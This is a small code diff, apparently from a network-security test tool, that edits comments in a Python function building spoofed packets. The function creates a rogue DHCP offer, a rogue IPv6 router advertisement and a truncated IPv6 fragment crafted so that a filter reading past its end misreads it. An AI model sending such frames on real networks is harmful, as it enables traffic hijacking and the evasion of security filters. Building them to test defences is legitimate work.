@@ -80,14 +80,14 @@ def build_switch_attacks(own: str) -> dict[str, Packet]:
 
 
 def build_service_attacks(own: str) -> dict[str, Packet]:
-    """Return frames of a false DHCP server and a false router, which guests would accept."""
+    """Return frames of a false DHCP server and a false router. Guests would accept these frames."""
     ethernet = Ether(dst=ALL_NODES, src=own)
     router = IPv6(src=ROUTER, dst="ff02::1", hlim=255)
     advertisement = ICMPv6ND_RA() / ICMPv6NDOptPrefixInfo(prefix="fd00:bad::")
     offer = BOOTP(op=2, yiaddr="10.0.0.66") / DHCP(options=[("message-type", "offer"), "end"])
     options = IPv6ExtHdrDestOpt(nh=ICMPV6, options=[PadN(optdata=b"\0\0\0\0")])
-    # The fragment ends in the middle of the destination options. A filter that reads beyond its end finds ``padding``.
-    # The padding looks like the rest of the options and the type of an echo request (0x80).
+    # The fragment ends in the middle of the destination options. A filter that reads beyond the end of the fragment
+    # finds ``padding``. The padding looks like the rest of the options and the type of an echo request (0x80).
     half = bytes(IPv6ExtHdrDestOpt(nh=ICMPV6, len=1, options=[PadN(optdata=b"\0\0\0\0")]))[:8]
     padding = bytes(8) + b"\x80\0\0\0"
     return {
